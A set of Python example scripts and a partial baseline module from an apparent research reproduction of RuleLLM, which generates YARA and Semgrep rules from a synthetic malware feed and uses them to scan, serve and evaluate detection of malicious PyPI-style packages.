#!/usr/bin/env python3
"""Scenario: scan unpacked packages on disk with previously generated rules.

This mirrors how the paper's artefact is meant to be used in a development
workflow: rules are generated once from a malware feed, saved as ``.yar`` /
``.yaml`` files, and later used to scan incoming packages (e.g. in CI before a
dependency is adopted).

The script:

1. generates a rule set from a synthetic malware feed and saves it,
2. writes a handful of unpacked packages (malicious and legitimate) to disk,
3. reloads the rule files from disk -- as a third-party tool would,
4. scans every package directory and prints a verdict with the matched rules.

Run with::

    python examples/scan_package_directory.py
"""

from __future__ import annotations

import tempfile
from pathlib import Path

from repro.core import RuleLLM, RuleLLMConfig
from repro.core.rules import GeneratedRuleSet
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.detector import RuleScanner
from repro.extraction.unpacking import load_package_from_directory, write_package_to_directory


def main() -> None:
    workdir = Path(tempfile.mkdtemp(prefix="rulellm_scan_"))
    rules_dir = workdir / "rules"
    packages_dir = workdir / "packages"

    # 1. generate and persist rules from the malware feed
    dataset = build_dataset(DatasetConfig.small(seed=2024))
    pipeline = RuleLLM(RuleLLMConfig.full())
    ruleset = pipeline.generate_rules(dataset.malware)
    ruleset.save(rules_dir)
    print(f"saved {len(ruleset)} rules to {rules_dir}")

    # 2. write a mixed batch of unpacked packages to disk
    incoming = dataset.malware[:4] + dataset.benign[:4]
    roots = [write_package_to_directory(pkg, packages_dir) for pkg in incoming]
    truth = {root: pkg.is_malicious for root, pkg in zip(roots, incoming)}
    print(f"wrote {len(roots)} unpacked packages to {packages_dir}")

    # 3. reload the rule files exactly as an independent scanner would
    loaded = GeneratedRuleSet.load(rules_dir)
    scanner = RuleScanner(
        yara_rules=loaded.compile_yara(),
        semgrep_rules=loaded.compile_semgrep(),
    )

    # 4. scan each directory and report
    print("\nscan results:")
    correct = 0
    for root in roots:
        package = load_package_from_directory(root)
        detection = scanner.scan_package(package)
        verdict = "MALICIOUS" if detection.match_count else "clean"
        expected = "malicious" if truth[root] else "legitimate"
        correct += (bool(detection.match_count) == truth[root])
        matched = ", ".join(detection.matched_rules[:3]) or "-"
        print(f"  {root.name:40s} -> {verdict:9s} (ground truth: {expected:10s} rules: {matched})")
    print(f"\n{correct}/{len(roots)} verdicts correct")


if __name__ == "__main__":
    main()
