#!/usr/bin/env python3
"""Scenario: one gateway serving two tenants with isolated namespaces.

Everything before this subsystem was a library call inside one process; the
:mod:`repro.gateway` turns it into a long-running multi-tenant service.
This script drives a single :class:`repro.gateway.GatewayApp` from two
concurrent tenants and demonstrates every serving property the gateway
promises:

1. **tenancy** — ``acme`` and ``umbrella`` each get their own registry
   namespace; their publishes are versions of *their* registry,
2. **job queue** — streaming generation feeds and scan batches are
   submitted as jobs and awaited, never blocking the event loop,
3. **event push** — each tenant's subscription stream receives its own
   ``publish`` and ``rescan`` notifications (no polling), and *never* the
   other tenant's,
4. **quotas** — ``umbrella`` runs on a deliberately tiny token bucket: its
   burst is admitted, the next submission is rejected with a concrete
   ``retry_after``, and a backoff retry then succeeds — while ``acme``'s
   traffic is entirely unaffected,
5. **graceful shutdown** — the gateway drains in-flight jobs before
   stopping.

Run with::

    python examples/gateway_serving.py
"""

from __future__ import annotations

import asyncio

from repro.corpus import DatasetConfig, build_dataset
from repro.gateway import (
    GatewayApp,
    GatewayConfig,
    RateLimited,
    TenantQuota,
    retry_with_backoff,
)


async def drive_tenant(app: GatewayApp, tenant: str, malware, targets) -> dict:
    """One tenant's serving session: feed rules, hear the publish, scan."""
    subscription = app.subscribe(tenant)

    # stream the tenant's malware corpus into a generation feed job
    feed = await app.open_generation(tenant, label=f"{tenant} nightly")
    half = len(malware) // 2 or 1
    await app.feed_generation(tenant, feed.id, malware[:half])
    await app.feed_generation(tenant, feed.id, malware[half:])
    await app.close_generation(tenant, feed.id)
    feed = await app.await_job(tenant, feed.id, timeout=120)
    assert feed.state == "done", feed.error

    # the publish arrives as a pushed notification, not a poll
    note = await subscription.next(timeout=10)
    assert note is not None and note.kind == "publish", note
    assert note.payload["namespace"] == tenant

    # scan with the freshly published version
    scan = await app.submit_scan(tenant, targets, label=f"{tenant} sweep")
    scan = await app.await_job(tenant, scan.id, timeout=120)
    assert scan.state == "done", scan.error

    # a second generation round triggers the tenant's live re-scan push
    second = await app.open_generation(tenant, label=f"{tenant} round 2")
    await app.feed_generation(tenant, second.id, malware[:half])
    await app.close_generation(tenant, second.id)
    await app.await_job(tenant, second.id, timeout=120)
    kinds = {n.kind for n in await subscription.collect(2, timeout=10)}

    return {
        "tenant": tenant,
        "published": feed.result["published_version"],
        "rules": feed.result["rules"],
        "scanned": scan.result["packages"],
        "flagged": scan.result["malicious"],
        "pushed_kinds": kinds,
        "versions": app.tenant(tenant).registry.versions(),
    }


async def main() -> None:
    dataset = build_dataset(DatasetConfig.small())
    app = await GatewayApp(GatewayConfig(workers=3)).start()

    app.register_tenant("acme")
    # umbrella's burst covers exactly its scripted session (two generation
    # feeds + one scan); anything past that depends on the slow refill
    app.register_tenant(
        "umbrella",
        TenantQuota(capacity=3, refill_per_second=0.5, max_pending_jobs=8),
    )

    # both tenants run their whole serving session concurrently
    acme, umbrella = await asyncio.gather(
        drive_tenant(app, "acme", dataset.malware[:12], dataset.packages[:20]),
        drive_tenant(app, "umbrella", dataset.malware[12:], dataset.packages[20:]),
    )
    for report in (acme, umbrella):
        print(
            f"{report['tenant']}: published v{report['published']} "
            f"({report['rules']['yara']} YARA + {report['rules']['semgrep']} "
            f"Semgrep), scanned {report['scanned']} packages, "
            f"{report['flagged']} flagged, pushed {sorted(report['pushed_kinds'])}, "
            f"registry versions {report['versions']}"
        )

    # -- tenant isolation: namespaces and notification streams never cross ---------
    assert app.tenant("acme").registry is not app.tenant("umbrella").registry
    acme_notes = app.hub.pending("acme")
    umbrella_notes = app.hub.pending("umbrella")
    assert all(n.payload.get("namespace", n.tenant) == "acme" for n in acme_notes)
    assert all(
        n.payload.get("namespace", n.tenant) == "umbrella" for n in umbrella_notes
    )
    print(
        f"isolation: acme saw {len(acme_notes)} notifications, "
        f"umbrella {len(umbrella_notes)}, zero cross-tenant"
    )

    # -- quota: umbrella burns through its remaining burst, then gets a 429 --------
    rejected = None
    burst = 0
    for _ in range(10):
        try:
            extra = await app.submit_scan("umbrella", dataset.packages[:2])
            await app.await_job("umbrella", extra.id, timeout=120)
            burst += 1
        except RateLimited as exc:
            rejected = exc
            break
    assert rejected is not None, "umbrella's bucket should exhaust within its burst"
    print(f"umbrella: {burst} more scans admitted from the refilled burst, then "
          f"rejected with retry_after={rejected.retry_after:.1f}s (as designed)")
    unaffected = await app.submit_scan("acme", dataset.packages[:5])
    unaffected = await app.await_job("acme", unaffected.id, timeout=120)
    assert unaffected.state == "done"
    print("acme unaffected by umbrella's quota: scan", unaffected.state)

    # retry-with-backoff rides out the rejection (the bucket refills)
    retried = await retry_with_backoff(
        lambda: app.submit_scan("umbrella", dataset.packages[:2]),
        attempts=6,
    )
    retried = await app.await_job("umbrella", retried.id, timeout=120)
    print(f"umbrella retry succeeded after backoff: {retried.state}")

    await app.shutdown(drain=True)
    print(f"gateway drained and stopped: {app.jobs.counts()}")


if __name__ == "__main__":
    asyncio.run(main())
