#!/usr/bin/env python3
"""Regenerate every table and figure of the paper's evaluation section.

Thin command-line front end over :class:`repro.evaluation.experiments.ExperimentSuite`.
By default it runs at 10% of the paper's corpus scale; pass ``--scale 1.0``
for a full-scale run (slower) and ``--all`` to include the model comparison
(Table IX) and the ablation (Table X), which each require several extra
pipeline runs.

Run with::

    python examples/reproduce_paper_tables.py --scale 0.1
"""

from __future__ import annotations

import argparse

from repro.core import RuleLLMConfig
from repro.corpus import DatasetConfig
from repro.evaluation.experiments import ExperimentSuite


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=float, default=0.1,
                        help="fraction of the paper-scale corpus to generate (default 0.1)")
    parser.add_argument("--model", default="gpt-4o", help="model profile for the main run")
    parser.add_argument("--all", action="store_true",
                        help="also run the model comparison (Table IX) and ablation (Table X)")
    parser.add_argument("--seed", type=int, default=1633)
    args = parser.parse_args()

    dataset_config = DatasetConfig(scale=args.scale, seed=args.seed)
    if args.scale < 0.5:
        dataset_config.benign_modules_range = (3, 6)
        dataset_config.benign_pieces_per_module_range = (8, 16)
    suite = ExperimentSuite(dataset_config, RuleLLMConfig.full(model=args.model, seed=args.seed))

    results = suite.run_all(include_model_comparison=args.all, include_ablation=args.all)
    order = ["table6", "table8", "table9", "table10", "table11", "table12",
             "fig5", "fig6", "fig7", "fig8", "fig9", "fig10", "fig11", "variants"]
    for key in order:
        if key in results:
            print()
            print("=" * 80)
            print(results[key].render())


if __name__ == "__main__":
    main()
