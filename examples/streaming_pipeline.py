#!/usr/bin/env python3
"""Scenario: a streaming generation session feeding a live scan service.

The paper's workflow is a closed loop — analyze malicious packages, craft
and refine rules, deploy them against the registry.  This script runs that
loop the way a production triage pipeline would:

1. a feeder thread streams newly-quarantined malicious packages into a
   bounded queue (``put`` blocks when the analysis side is behind —
   backpressure for free),
2. a :class:`repro.api.GenerationSession` drains the queue into incremental
   batches and runs the cluster -> craft -> refine -> align stage chain,
3. the generated rule set auto-publishes into the scan service's versioned
   registry (atomic hot-swap),
4. the scan service immediately scans suspect traffic with the fresh rules —
   no manual publish step anywhere,
5. a second wave of malware arrives; the session generates and publishes
   version 2, and the next scan transparently uses it.

Run with::

    python examples/streaming_pipeline.py
"""

from __future__ import annotations

import threading

from repro.api import (
    BoundedQueue,
    GenerationSession,
    RuleLLMConfig,
    ScanService,
    ScanServiceConfig,
)
from repro.corpus import DatasetConfig, build_dataset


def main() -> None:
    dataset = build_dataset(DatasetConfig.small())
    half = len(dataset.malware) // 2
    first_wave, second_wave = dataset.malware[:half], dataset.malware[half:]

    service = ScanService(config=ScanServiceConfig(shards=2, mode="inprocess"))
    session = GenerationSession(
        RuleLLMConfig.full(model="gpt-4o"), registry=service.registry
    )

    print(f"== wave 1: streaming {len(first_wave)} packages through the queue ==")
    queue = BoundedQueue(max_items=8)  # small on purpose: feeder feels backpressure

    def feed(packages) -> None:
        for package in packages:
            queue.put(package)
        queue.close()

    feeder = threading.Thread(target=feed, args=(first_wave,))
    feeder.start()
    consumed = session.consume(queue, batch_size=8)
    feeder.join()
    print(f"consumed {consumed} packages in {session.pending_batches} batches")

    result = session.generate(label="wave-1")
    print(result.describe())

    batch = service.scan_batch(dataset.packages)
    confusion = batch.result.confusion()
    print(f"scan with v{batch.ruleset_version}: "
          f"TP={confusion.true_positive} FP={confusion.false_positive} "
          f"({batch.packages_per_second:.0f} pkg/s)\n")

    print(f"== wave 2: {len(second_wave)} more packages, plain batches ==")
    session.add_batch(second_wave[: len(second_wave) // 2])
    session.add_batch(second_wave[len(second_wave) // 2:])
    result = session.generate(label="wave-2")
    print(result.describe())

    batch = service.scan_batch(dataset.packages)
    print(f"scan now uses v{batch.ruleset_version} "
          f"(cache hits {batch.cache_hits}: the hot-swap invalidated wave-1 results)")
    print("\nregistry state:")
    print(service.registry.describe())


if __name__ == "__main__":
    main()
