#!/usr/bin/env python3
"""Scenario: run the scanserve service the way a registry scanner would.

The paper's end goal is deploying generated rules against live package
registries.  This script walks the full operational loop:

1. run a :class:`repro.api.GenerationSession` bound to the service's
   registry — the generated rule set *auto-publishes* as a versioned
   ruleset (the atom-prefilter index is built at publish time, before the
   atomic hot-swap),
2. scan a batch of packages through the sharded scanning service and show
   the per-shard throughput stats,
3. re-scan the same batch to demonstrate the content-hash result cache,
4. generate rules with a second model session, hot-swap them in, and show
   that the version bump surgically invalidates the cache,
5. roll back to the first version,
6. show the per-rule cost telemetry (slowest rules of the run).

Run with::

    python examples/registry_scan_service.py
"""

from __future__ import annotations

from repro.api import (
    GenerationSession,
    RuleLLMConfig,
    ScanService,
    ScanServiceConfig,
)
from repro.corpus import DatasetConfig, build_dataset


def main() -> None:
    print("== build corpus and generate rules ==")
    dataset = build_dataset(DatasetConfig.small())

    service = ScanService(config=ScanServiceConfig(shards=2, mode="auto"))
    session = GenerationSession(
        RuleLLMConfig.full(model="gpt-4o"), registry=service.registry
    )
    session.add_batch(dataset.malware)
    version1 = session.generate(label="gpt-4o nightly").version
    print(f"published {version1.describe()}")
    stats = version1.index.stats()
    print(f"prefilter: {stats.atoms} atoms over {stats.automaton_states} automaton states\n")

    print("== batch scan ==")
    batch = service.scan_batch(dataset.packages)
    confusion = batch.result.confusion()
    print(
        f"scanned {batch.packages} packages in {batch.elapsed_seconds:.3f}s "
        f"({batch.packages_per_second:.0f} pkg/s, mode={batch.mode})"
    )
    for shard in batch.shard_stats:
        print(
            f"  shard {shard.shard_id}: {shard.packages} packages, "
            f"{shard.packages_per_second:.0f} pkg/s"
        )
    print(f"detections: TP={confusion.true_positive} FP={confusion.false_positive}\n")

    print("== re-scan: served from the result cache ==")
    repeat = service.scan_batch(dataset.packages)
    print(
        f"cache hits {repeat.cache_hits}/{repeat.packages} "
        f"in {repeat.elapsed_seconds:.3f}s\n"
    )

    print("== hot-swap a new ruleset version ==")
    second_session = GenerationSession(
        RuleLLMConfig.full(model="claude-3.5-sonnet"), registry=service.registry
    )
    second_session.add_batch(dataset.malware)
    version2 = second_session.generate(label="claude nightly").version
    print(f"published {version2.describe()}")
    swapped = service.scan_batch(dataset.packages)
    print(
        f"after swap: ruleset v{swapped.ruleset_version}, "
        f"cache hits {swapped.cache_hits} (version bump invalidates)\n"
    )

    print("== rollback ==")
    service.registry.activate(version1.version)
    rolled_back = service.scan_batch(dataset.packages)
    print(
        f"rolled back to v{rolled_back.ruleset_version}, "
        f"cache hits {rolled_back.cache_hits}/{rolled_back.packages}"
    )
    print("\nregistry state:")
    print(service.registry.describe())

    print("\n== per-rule cost telemetry ==")
    for cost in service.top_slow_rules(5):
        print(f"  {cost.describe()}")


if __name__ == "__main__":
    main()
