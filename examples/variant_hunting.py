#!/usr/bin/env python3
"""Scenario: hunting unseen variants of a malware family (paper Section V-B).

Supply-chain attackers re-upload near-identical packages under new names as
soon as one gets taken down.  This example reproduces the paper's variant
experiment: rules are generated from just two samples of each family cluster
and then evaluated against the family's remaining, unseen variants.

It also compares the model profiles (Table IX) on the same task, showing how
the capability knobs of the simulated LLM propagate to downstream detection.

Run with::

    python examples/variant_hunting.py
"""

from __future__ import annotations

from repro.core import RuleLLMConfig
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.reporting import format_table, percent
from repro.evaluation.variants import variant_detection_experiment


def main() -> None:
    dataset = build_dataset(DatasetConfig.medium(seed=77))
    print(f"malware corpus: {len(dataset.malware)} unique packages, "
          f"{len(dataset.families())} generator families")

    # Section V-B with the default (GPT-4o) profile
    result = variant_detection_experiment(dataset.malware, RuleLLMConfig.full(), max_groups=25)
    print(f"\nvariant detection with GPT-4o rules "
          f"({len(result.groups)} groups, {result.total_variants} unseen variants):")
    print(f"  overall detection rate: {percent(result.overall_detection_rate)}  (paper: 90.3%)")
    print(f"  average detection rate: {percent(result.average_detection_rate)}  (paper: 96.6%)")

    worst = sorted(result.groups, key=lambda group: group.detection_rate)[:3]
    if worst:
        print("\nhardest groups:")
        for group in worst:
            print(f"  cluster {group.cluster_id}: {group.detected}/{group.variants} variants detected "
                  f"(seeds: {', '.join(group.seeds)})")

    # model comparison on the same task
    rows = []
    for model in ("gpt-4o", "claude-3.5-sonnet", "gpt-3.5-turbo", "llama-3.1-70b"):
        outcome = variant_detection_experiment(
            dataset.malware, RuleLLMConfig.full(model=model), max_groups=12
        )
        rows.append([model, len(outcome.groups),
                     percent(outcome.overall_detection_rate),
                     percent(outcome.average_detection_rate)])
    print()
    print(format_table(["model", "groups", "overall", "average"], rows,
                       title="Variant detection by model profile"))


if __name__ == "__main__":
    main()
