#!/usr/bin/env python3
"""Scenario: the continuous rule-quality arena closing the loop on decay.

The paper evaluates its generated rules once, against the corpus they were
generated from.  Production rules decay: malware authors re-upload the same
payloads wrapped in fresh obfuscation, and a rule keyed on surface atoms
quietly stops firing.  The :mod:`repro.arena` turns that decay into a
measured, automated lifecycle.  This script demonstrates the whole loop
deterministically under a fixed seed:

1. **decay** — replay traffic escalates from plain re-uploads (round 0) to
   fully base64-wrapped variants (later rounds); rules that only match the
   plain surface stop firing and slide down the leaderboard,
2. **auto-retire** — after ``retire_after`` consecutive decayed rounds the
   lifecycle policy retires them, stamping a reason into the registry's
   :class:`~repro.scanserve.registry.RetirementRecord`,
3. **refeed** — the malicious packages the ruleset *missed* go back
   through a generation session; the refined rules merge with the healthy
   survivors into a successor version that out-scores what it replaced,
4. **durability** — the leaderboard (scores, trends, ranks) survives a
   runner restart byte-for-byte,
5. **auto mode** — a runner subscribed to the registry's publish bus
   scores newly activated versions with no glue code.

Run with::

    python examples/rule_arena.py
"""

from __future__ import annotations

import tempfile
import time
from pathlib import Path

from repro.api import GenerationSession
from repro.arena import (
    ArenaConfig,
    ArenaRunner,
    Leaderboard,
    LifecyclePolicy,
    ReplayTraffic,
    TrafficConfig,
)
from repro.core.config import RuleLLMConfig
from repro.corpus import DatasetConfig, build_dataset
from repro.scanserve import ScanService, ScanServiceConfig

SEED = 1633
DECAY_THRESHOLD = 0.4


def main() -> None:
    state_dir = Path(tempfile.mkdtemp(prefix="rule_arena_"))
    board_path = state_dir / "leaderboard.json"

    # -- baseline: generate and publish rules from the plain corpus -------------
    dataset = build_dataset(DatasetConfig(scale=0.02, seed=SEED))
    service = ScanService(
        config=ScanServiceConfig(mode="inprocess", match_threshold=1)
    )
    session = GenerationSession(
        config=RuleLLMConfig.full(model="gpt-4o", seed=SEED),
        registry=service.registry,
    )
    session.add_batch(dataset.malware)
    baseline = session.generate(label="arena-baseline")
    print(f"baseline: v{baseline.version.version} "
          f"({len(baseline.rule_set.rules)} rules)")

    # -- the arena: plain traffic in round 0, fully wrapped afterwards ----------
    traffic = ReplayTraffic(dataset.malware, TrafficConfig(
        seed=SEED,
        packages_per_round=16,
        obfuscation_base=0.0,
        obfuscation_step=1.0,  # round 0 plain, round 1+ all wrapped
    ))
    runner = ArenaRunner(
        service,
        traffic,
        leaderboard=Leaderboard(path=board_path),
        policy=LifecyclePolicy(
            decay_threshold=DECAY_THRESHOLD,
            flag_after=1,
            quarantine_after=1,
            retire_after=2,
        ),
        # strict policy: precision alone, silent rules score 0 — the crispest
        # view of "this rule stopped firing when the packaging changed"
        config=ArenaConfig(policy="strict", seed=SEED),
    )
    runner.register_sources(baseline.version.version, baseline.rule_set)
    namespace = service.registry.namespace

    # 1+2: run rounds until the obfuscation shift retires a rule that was
    # genuinely healthy on the plain round-0 traffic (rules that never fired
    # at all may retire earlier; those aren't the interesting decay)
    retire_round = None
    decayed: list = []
    for _ in range(6):
        record = runner.run_round()
        print(record.describe())
        decayed = [
            rule for rule in record.retired_rules
            if runner.leaderboard.entry(namespace, rule).trend[0]
            >= DECAY_THRESHOLD
        ]
        if decayed:
            retire_round = record
            break
    assert retire_round is not None, "no healthy rule decayed within 6 rounds"
    assert retire_round.refeed_version is not None
    victim = runner.leaderboard.entry(namespace, decayed[0])
    print(f"\ndecayed: {victim.rule} trend "
          f"{' '.join(f'{s:.2f}' for s in victim.trend)} [{victim.status}]")

    # the registry carries the stamped tombstone
    tombstones = service.registry.retirements()
    assert tombstones and tombstones[0].retired_by == "arena"
    assert "score decay" in tombstones[0].reason
    assert tombstones[0].describe() in service.registry.describe()
    print(f"tombstone: {tombstones[0].describe()}")

    # 3: the refit version out-scores the retired rule on the next round
    refit_sources = runner._sources[retire_round.refeed_version]
    refit_names = {rule.name for rule in refit_sources.rules}
    next_round = runner.run_round()
    refit_scores = [s for s in next_round.scores if s.rule in refit_names]
    best = max(refit_scores, key=lambda s: s.score)
    assert best.score > victim.score, (best.score, victim.score)
    best_entry = runner.leaderboard.entry(namespace, best.rule)
    assert best_entry.rank < victim.rank
    print(f"refit: {best.rule} scores {best.score:.3f} "
          f"(rank {best_entry.rank}) vs retired {victim.score:.3f} "
          f"(rank {victim.rank})")

    # 4: a restarted runner reloads the exact same standings
    reloaded = Leaderboard(path=board_path)
    assert len(reloaded) == len(runner.leaderboard)
    for entry in runner.leaderboard.rankings():
        twin = reloaded.entry(entry.namespace, entry.rule)
        assert twin is not None and twin.rank == entry.rank
        assert [round(s, 6) for s in entry.trend] == twin.trend
    print(f"restart: leaderboard of {len(reloaded)} entries survives reload")

    # 5: auto mode — an activated publish is scored with no glue code
    rounds_before = len(runner.history)
    runner.start()
    try:
        session2 = GenerationSession(
            config=RuleLLMConfig.full(model="gpt-4o", seed=SEED + 1),
            registry=service.registry,
        )
        session2.add_batch(dataset.malware)
        session2.generate(label="nightly")  # auto-publish -> arena round
        deadline = time.monotonic() + 30
        while len(runner.history) == rounds_before:
            assert time.monotonic() < deadline, "auto round never ran"
            time.sleep(0.05)
    finally:
        runner.stop(drain=True)
    print(f"auto mode: publish triggered round {runner.history[-1].index} "
          f"against v{runner.history[-1].version}")

    print("\nleaderboard:")
    print(runner.leaderboard.describe(limit=8))
    print("\nall scenarios passed.")


if __name__ == "__main__":
    main()
