#!/usr/bin/env python3
"""Scenario: a sharded generation fleet feeding a live-re-scanning service.

One `GenerationSession` can only chew through a corpus monolithically; at
registry scale the *generation* side wants sharding just like the scanning
side.  This script runs the full orchestrated loop:

1. a baseline version (generated from the first malware wave) is published
   and the whole corpus is scanned — the scan service remembers every
   fingerprint it saw in its bounded **recency ring**,
2. a 3-shard :class:`repro.api.GenerationOrchestrator` partitions the full
   corpus with the **cluster** shard plan (the whole corpus is clustered
   once, whole clusters are dealt to shards, global cluster ids preserved),
   runs one generation session per shard on a small thread pool,
3. the shard outputs publish as **one merged version** with per-shard
   provenance (`RulesetRegistry.publish_merged`),
4. the service — subscribed to the registry's event bus — notices the new
   live version and automatically re-scans its recency window, reporting
   the :class:`repro.api.RescanDelta` (newly flagged / changed / cleared),
5. and because cluster-sharded refinement is exactly the per-cluster slice
   of a monolithic run, the merged rules (and therefore every detection)
   are **bit-for-bit identical** to a single session over the same corpus —
   the script verifies that claim at the end.

Run with::

    python examples/orchestrated_fleet.py
"""

from __future__ import annotations

from repro.api import (
    ClusterShardPlan,
    GenerationOrchestrator,
    GenerationSession,
    RuleLLMConfig,
    ScanService,
    ScanServiceConfig,
)
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.detector import RuleScanner


def main() -> None:
    dataset = build_dataset(DatasetConfig.small())
    first_wave = dataset.malware[: len(dataset.malware) // 3]
    config = RuleLLMConfig.full(model="gpt-4o")

    service = ScanService(
        config=ScanServiceConfig(mode="inprocess", live_rescan=True)
    )

    print(f"== baseline: {len(first_wave)} packages, one ordinary session ==")
    baseline = GenerationSession(config, registry=service.registry)
    baseline.add_batch(first_wave)
    print(baseline.generate(label="baseline").describe())

    batch = service.scan_batch(dataset.packages)
    print(
        f"scanned {batch.packages} packages with v{batch.ruleset_version}; "
        f"recency ring holds {len(service.recency_window)} fingerprints\n"
    )

    print(f"== fleet: {len(dataset.malware)} packages over 3 cluster shards ==")
    orchestrator = GenerationOrchestrator(
        config=config,
        plan=ClusterShardPlan(shards=3),
        registry=service.registry,
        max_workers=3,
    )
    fleet = orchestrator.run(dataset.malware, publish="merged", label="fleet")
    print(fleet.describe())
    for record in fleet.version.provenance:
        print(f"  shard {record.describe()}")

    # the merged publish already triggered the subscribed service:
    delta = service.last_rescan
    assert delta is not None and delta.has_changes, "expected a non-empty re-scan"
    print(f"\nlive {delta.describe()}")
    if delta.new:
        print(f"  newly flagged: {', '.join(delta.new[:4])}"
              + (" ..." if len(delta.new) > 4 else ""))

    print("\nregistry state:")
    print(service.registry.describe())

    # fleet output == one monolithic session over the same corpus, bit for bit
    single = GenerationSession(config)
    single.add_batch(dataset.malware)
    single_rules = single.generate().rule_set
    assert [(r.format, r.name, r.text) for r in fleet.rule_set.rules] == [
        (r.format, r.name, r.text) for r in single_rules.rules
    ], "merged fleet rules diverged from the single-session run"

    merged_scan = service.scan_batch(dataset.packages)
    single_scan = RuleScanner(
        yara_rules=single_rules.compile_yara(),
        semgrep_rules=single_rules.compile_semgrep(),
    ).scan(dataset.packages)
    assert [
        (d.package, d.yara_rules, d.semgrep_rules) for d in merged_scan.detections
    ] == [
        (d.package, d.yara_rules, d.semgrep_rules) for d in single_scan.detections
    ], "merged fleet detections diverged from the single-session run"
    print(
        f"\nverified: 3-shard merged output is bit-for-bit identical to a "
        f"single session ({len(single_rules.rules)} rules, "
        f"{merged_scan.packages} detections compared)"
    )


if __name__ == "__main__":
    main()
