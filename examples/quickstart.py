#!/usr/bin/env python3
"""Quickstart: generate YARA & Semgrep rules for a batch of malicious packages.

This walks the full RuleLLM pipeline end to end on a small synthetic corpus:

1. build a corpus of malicious + legitimate PyPI-style packages,
2. run the pipeline (cluster -> craft -> refine -> align) over the malware
   through a :class:`repro.api.GenerationSession`,
3. compile the generated rules with the bundled YARA / Semgrep engines,
4. scan the whole corpus and print detection metrics,
5. write the deployable rule files to ``./generated_rules/``.

Run with::

    python examples/quickstart.py
"""

from __future__ import annotations

from pathlib import Path

from repro.api import GenerationSession, RuleLLMConfig
from repro.corpus import DatasetConfig, build_dataset
from repro.evaluation.detector import RuleScanner
from repro.evaluation.reporting import format_table, percent


def main() -> None:
    # 1. a small corpus (increase `scale` for larger runs; 1.0 = paper scale)
    dataset = build_dataset(DatasetConfig.medium(seed=1633))
    stats = dataset.statistics()
    print(f"corpus: {stats.malware_total} malicious uploads "
          f"({stats.malware_unique} unique after dedup), {stats.benign_total} legitimate packages")

    # 2. run the pipeline through a generation session (the simulated GPT-4o
    #    analyst is the default provider); large corpora can be fed in
    #    several add_batch calls before generate()
    session = GenerationSession(RuleLLMConfig.full(model="gpt-4o"))
    session.add_batch(dataset.malware)
    result = session.generate()
    ruleset = result.rule_set
    counts = ruleset.counts()
    print(f"generated {counts['yara']} YARA rules and {counts['semgrep']} Semgrep rules "
          f"({counts['rejected']} rejected by the alignment agent)")
    print(f"clusters: {result.info.cluster_count}, "
          f"repaired rules: {result.info.alignment.repaired}, "
          f"stage timings: " + ", ".join(
              f"{name} {seconds:.2f}s" for name, seconds in result.stage_seconds.items()))

    # 3. compile and 4. scan
    scanner = RuleScanner(
        yara_rules=ruleset.compile_yara(),
        semgrep_rules=ruleset.compile_semgrep(),
    )
    metrics = scanner.evaluate(dataset.packages)
    print()
    print(format_table(
        ["metric", "value", "paper"],
        [
            ["accuracy", percent(metrics.accuracy), "81.4%"],
            ["precision", percent(metrics.precision), "85.2%"],
            ["recall", percent(metrics.recall), "91.8%"],
            ["f1", percent(metrics.f1), "88.4%"],
        ],
        title="RuleLLM detection performance",
    ))

    # 5. write rules to disk, ready for deployment in YARA / Semgrep workflows
    output = Path("generated_rules")
    ruleset.save(output)
    print(f"\nwrote rule files under {output.resolve()}/ (yara/*.yar, semgrep/*.yaml)")

    # show one of each for a feel of the output (pick reasonably rich ones)
    if ruleset.yara_rules:
        showcase = max(ruleset.yara_rules, key=lambda rule: rule.text.count("$"))
        print("\nexample YARA rule:\n" + showcase.text)
    if ruleset.semgrep_rules:
        showcase = max(ruleset.semgrep_rules, key=lambda rule: rule.text.count("pattern"))
        print("example Semgrep rule:\n" + showcase.text)


if __name__ == "__main__":
    main()
