"""Score-based rule generation baseline (paper Section V-A).

No prior tool generates rules for OSS malware directly, so the paper adapts
score-based signature generation: candidate strings are extracted from
malware code, scored with three signals -- isolation-forest anomaly score
(weight 1.2), TF-IDF (weight 1.0) and information entropy (weight 0.8) --
contrasted against a legitimate-package group, and strings whose combined
score clears a 0.9 threshold are dropped into a YARA rule template.

The baseline inherits the known weaknesses the paper observes: the scores
prefer strings that are *frequent and unusual-looking* rather than
*semantically malicious*, so rules pick up boilerplate shared by malware and
benign packages alike (decent accuracy, poor precision).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

import numpy as np

from repro.baselines.entropy import normalized_entropy
from repro.baselines.isolation_forest import IsolationForest
from repro.baselines.tfidf import TfIdfScorer
from repro.corpus.package import Package
from repro.extraction.clustering import cluster_packages
from repro.utils.text import safe_identifier
from repro.yarax import CompiledRuleSet, compile_source
from repro.yarax.serializer import YaraRuleBuilder

_STRING_LITERAL_RE = re.compile(r"[\"']([^\"'\n]{6,120})[\"']")
_CALL_RE = re.compile(r"\b([a-zA-Z_][\w.]{3,40})\(")


@dataclass
class ScoreBasedConfig:
    """Hyper-parameters fixed by the paper's description."""

    isolation_weight: float = 1.2
    tfidf_weight: float = 1.0
    entropy_weight: float = 0.8
    score_threshold: float = 0.9
    max_strings_per_rule: int = 6
    min_string_length: int = 6
    clusters_hint: int = 4
    random_seed: int = 42


@dataclass
class ScoredString:
    """One candidate string with its component and combined scores."""

    value: str
    isolation: float = 0.0
    tfidf: float = 0.0
    entropy: float = 0.0
    combined: float = 0.0


@dataclass
class ScoreBasedResult:
    """Output of the score-based generator."""

    rule_sources: list[str] = field(default_factory=list)
    scored_strings: list[ScoredString] = field(default_factory=list)

    def compile(self) -> CompiledRuleSet:
        if not self.rule_sources:
            return CompiledRuleSet()
        return compile_source("\n\n".join(self.rule_sources))


class ScoreBasedRuleGenerator:
    """Generate YARA rules by scoring strings against a benign contrast group."""

    def __init__(self, config: ScoreBasedConfig | None = None) -> None:
        self.config = config or ScoreBasedConfig()

    # -- feature extraction -----------------------------------------------------
    def extract_strings(self, package: Package) -> list[str]:
        """Pull candidate strings (literals and call names) from a package."""
        candidates: list[str] = []
        text = package.source_text
        for match in _STRING_LITERAL_RE.finditer(text):
            value = match.group(1).strip()
            if len(value) >= self.config.min_string_length:
                candidates.append(value)
        for match in _CALL_RE.finditer(text):
            name = match.group(1)
            if "." in name and len(name) >= self.config.min_string_length:
                candidates.append(name + "(")
        return candidates

    # -- scoring --------------------------------------------------------------------
